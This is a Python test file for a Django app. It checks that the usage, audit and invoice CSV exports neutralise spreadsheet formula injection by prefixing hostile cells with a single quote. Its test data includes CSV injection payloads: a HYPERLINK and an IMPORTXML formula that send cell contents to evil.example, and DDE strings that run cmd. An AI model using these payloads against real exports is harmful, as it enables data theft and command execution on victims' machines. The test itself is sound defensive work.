"""Hole 8 of issue 26: a display name or an audited value starting with `=` (or `+ - @`, tab, CR) reached the
usage, audit and invoice CSVs unescaped, and a spreadsheet ran it as a formula. Every export now goes through
apps/common/csv_stream.py: such a text cell starts with a single quote; numbers (also negative amounts) stay
numbers. The exports are downloaded as an owner would and read back with the csv module."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine
from django.db import transaction
from django.test import Client
from django.urls import reverse

from apps.common.csv_stream import csv_safe_cell
from apps.invoicing.services import invoice_issue_for_period
from apps.organizations.models import PlanKind, Role
from apps.organizations.services import audit_record
from apps.usage.models import UsageEvent
from tests.factories import OrganizationFactory, member
from tests.invoicing.helpers import at, event
from tests.monitoring.helpers import record

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NOW = dt.datetime(2026, 11, 18, 12, tzinfo=dt.UTC)


def _download(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _named(org, name: str, email: str, **kwargs):
    membership = member(org, email=email, **kwargs)
    membership.user.name = name
    membership.user.save(update_fields=["name"])
    return membership


def _no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every cell starting with a formula character is a plain number."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert Decimal(cell) < 0, f"formula cell in the CSV: {cell!r}"


def test_usage_and_audit_csv_neutralise_formulas_in_names_and_values():
    with time_machine.travel(NOW, tick=False):
        org = OrganizationFactory(plan_kind=PlanKind.ENTERPRISE_USAGE, slug="acme", name="Acme")
        owner = member(org, email="owner@acme.test", role=Role.PRIMARY_OWNER, since=NOW - dt.timedelta(days=30))
        for index, name in enumerate(HOSTILE):
            _named(org, name, f"m{index}@acme.test", since=NOW - dt.timedelta(days=30))
            record(org, f"m{index}@acme.test", "1.25", now=NOW, occurred_at=NOW - dt.timedelta(hours=1))
        with transaction.atomic():
            audit_record(organization=org, actor=owner.user, action="scim.group", target=HOSTILE[0],
                         new="=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", now=NOW)
        client = Client()
        client.force_login(owner.user, backend="django.contrib.auth.backends.ModelBackend")
        usage = _download(client, f"/orgs/{org.slug}/usage/dashboard/export.csv")
        audit = _download(client, reverse("console:audit_log_export", kwargs={"slug": org.slug}))
    header = usage[0]
    names = {row[header.index("name")] for row in usage[1:]}
    assert names == {"'" + name for name in HOSTILE}  # the same text, opened as text
    assert {Decimal(row[header.index("cost")]) for row in usage[1:]} == {Decimal("1.25")}
    _no_formula(usage)
    audit_header = audit[0]
    hostile_row = next(row for row in audit[1:] if row[audit_header.index("action")] == "scim.group")
    assert hostile_row[audit_header.index("target")] == "'" + HOSTILE[0]
    _no_formula(audit)


def test_invoice_csv_neutralises_names_and_keeps_amounts_numbers():
    org = OrganizationFactory(plan_kind=PlanKind.TEAM, slug="acme", name="Acme")
    owner = member(org, email="owner@acme.example", role=Role.PRIMARY_OWNER, tier_code="standard",
                   since=at("UTC", 2026, 10, 1))
    hostile = _named(org, HOSTILE[0], "m@acme.example", tier_code="standard", since=at("UTC", 2026, 10, 1))
    UsageEvent.objects.bulk_create([event(hostile, occurred_at=at("UTC", 2026, 11, 20),
                                          period_start=dt.date(2026, 11, 1), cost=Decimal("12.3456789"),
                                          included=Decimal("10"))])
    invoice = invoice_issue_for_period(organization=org, period_start=dt.date(2026, 11, 1),
                                       now=at("UTC", 2026, 12, 1, 0, 20))
    client = Client()
    client.force_login(owner.user, backend="django.contrib.auth.backends.ModelBackend")
    rows = _download(client, reverse("invoicing:invoice_csv", kwargs={"slug": org.slug, "number": invoice.number}))
    header = rows[0]
    names = {row[header.index("member_name")] for row in rows[1:] if row[header.index("member")] == "m@acme.example"}
    assert names == {"'" + HOSTILE[0]}
    total = next(row for row in rows if row[header.index("kind")] == "total")
    assert Decimal(total[header.index("amount")]) == invoice.total
    _no_formula(rows)


@pytest.mark.parametrize("value,written", [
    ("-12.50", "-12.50"), (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), ("12.50", "12.50"),
    ("-2+3", "'-2+3"), ("-1e3", "'-1e3"), ("=1+1", "'=1+1"), ("@A1", "'@A1"), ("+1", "'+1"), ("\t1", "'\t1"),
    ("\r1", "'\r1"), ("a=b", "a=b"), ("", ""),
])
def test_a_negative_amount_stays_a_number_and_text_formulas_are_quoted(value, written):
    assert csv_safe_cell(value) == written
